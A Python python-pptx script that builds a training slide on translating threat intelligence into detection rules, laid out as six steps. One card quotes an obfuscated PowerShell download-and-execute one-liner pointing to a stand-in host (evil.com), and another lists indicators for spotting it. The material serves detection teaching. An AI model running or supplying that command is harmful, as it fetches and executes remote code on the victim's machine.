
from lxml.etree import SubElement
from pptx import Presentation
from pptx.dml.color import RGBColor
from pptx.enum.shapes import MSO_SHAPE
from pptx.enum.text import MSO_ANCHOR, PP_ALIGN
from pptx.oxml.ns import qn
from pptx.util import Cm, Pt

PINK = RGBColor(0xF6, 0xB5, 0xD3)
YELLOW = RGBColor(0xFF, 0xF2, 0x69)
GREY = RGBColor(0xE7, 0xE7, 0xE7)
BLACK = RGBColor(0x00, 0x00, 0x00)
FONT = "Roboto"

CARD_WIDTH, CARD_HEIGHT, CARD_PITCH = 5.96, 4.08, 6.32
TAB_WIDTH, TAB_HEIGHT, TAB_RISE = 2.33, 0.53, 0.35
TEXT_PITCH = 6.36
INSET = 0.21

# Left, top and width of each block, relative to the face
EYES = [(0, 0, 0.11), (0.31, 0, 0.11)]
SMILE = [(0, 0.16, 0.11), (0.03, 0.2, 0.11), (0.05, 0.24, 0.31),
         (0.27, 0.2, 0.11), (0.31, 0.16, 0.11)]
FLAT_MOUTH = [(0, 0.24, 0.42)]

# Each step: its paragraphs and the space before those after the first
FIRST_ROW = [
    (["Read threat report", '"APT29 uses PowerShell to download payloads"'], 6.2),
    (["Identify ATT&CK technique", "T1059.001 - PowerShell"], 6.2),
    (["Understand the procedure",
      "powershell.exe -nop -w hidden -c \"IEX(New-Object "
      "Net.WebClient).DownloadString('http://evil.com/payload')\""], 10.7),
]
SECOND_ROW = [
    (["Extract detection indicators", "• Process: powershell.exe",
      "• Flags: -nop, -w hidden, -encodedcommand",
      "• Actions: DownloadString, IEX"], 0),
    (["Write detection rule", "Alert on powershell.exe with those patterns"], 6.2),
    (["TEST with real attack simulation"], 0),
]


def add_block(slide, left, top, width, height, color):
    shape = slide.shapes.add_shape(
        MSO_SHAPE.RECTANGLE, Cm(left), Cm(top), Cm(width), Cm(height))
    shape.shadow.inherit = False
    shape.fill.solid()
    shape.fill.fore_color.rgb = color
    shape.line.fill.background()


def add_text(slide, box, texts, size, line_spacing=1.0, inset=0.0,
             gap=0, anchor=MSO_ANCHOR.TOP):
    """Add a text box with one paragraph per text, gap points apart."""
    frame = slide.shapes.add_textbox(*(Cm(length) for length in box)).text_frame
    frame.word_wrap = True
    frame.vertical_anchor = anchor
    frame.margin_left = frame.margin_right = Cm(inset)
    frame.margin_top = frame.margin_bottom = Cm(inset)
    for index, text in enumerate(texts):
        paragraph = frame.add_paragraph() if index else frame.paragraphs[0]
        paragraph.text = text
        paragraph.alignment = PP_ALIGN.LEFT
        paragraph.line_spacing = line_spacing
        if index and gap:
            paragraph.space_before = Pt(gap)
        paragraph.font.size = Pt(size)
        paragraph.font.name = FONT
        paragraph.font.color.rgb = BLACK
    return frame


def highlight(run, color):
    element = SubElement(run.font._element, qn("a:highlight"))
    SubElement(element, qn("a:srgbClr"), val=str(color))


def add_faces(slide, left, top):
    add_block(slide, left, top, 3.0, 0.97, YELLOW)
    for offset, mouth in [(0.25, SMILE), (1.31, FLAT_MOUTH), (2.34, SMILE)]:
        for x, y, width in EYES + mouth:
            add_block(slide, left + offset + x, top + 0.17 + y, width, 0.11, BLACK)


def add_heading(slide, left, top):
    title = add_text(slide, (left, top, 14.71, 2.34),
                     ["THE TRANSLATION PROCESS_"], 35, 0.8)
    highlight(title.paragraphs[0].runs[0], YELLOW)
    add_text(slide, (left - 0.02, top + 2.9, 10.03, 2.64),
             ["THREAT INTEL → DETECTION LOGIC"], 10)


def add_step_row(slide, left, top, first_number, steps):
    for column, (texts, gap) in enumerate(steps):
        card_left = left + column * CARD_PITCH
        text_left = left + 0.26 + column * TEXT_PITCH
        add_block(slide, card_left, top, CARD_WIDTH, CARD_HEIGHT, GREY)
        add_block(slide, card_left + CARD_WIDTH - TAB_WIDTH, top - TAB_RISE,
                  TAB_WIDTH, TAB_HEIGHT, GREY)
        add_text(slide, (text_left, top + 0.28, 5.28, 3.5), texts, 7.7,
                 1.15, INSET, gap)
        add_text(slide, (text_left, top - 0.58, 3.3, 0.53),
                 [f"STEP #{first_number + column}"], 11.6, 0.8, INSET,
                 anchor=MSO_ANCHOR.BOTTOM)


def main():
    presentation = Presentation()
    presentation.slide_width = Cm(25.4)
    presentation.slide_height = Cm(14.29)
    slide = presentation.slides.add_slide(presentation.slide_layouts[6])
    slide.background.fill.solid()
    slide.background.fill.fore_color.rgb = PINK

    add_faces(slide, 0.71, 0.71)
    add_heading(slide, 0.71, 1.45)
    add_step_row(slide, 6.54, 4.59, 1, FIRST_ROW)
    add_step_row(slide, 1.49, 9.5, 4, SECOND_ROW)
    presentation.save("out.pptx")


if __name__ == "__main__":
    main()
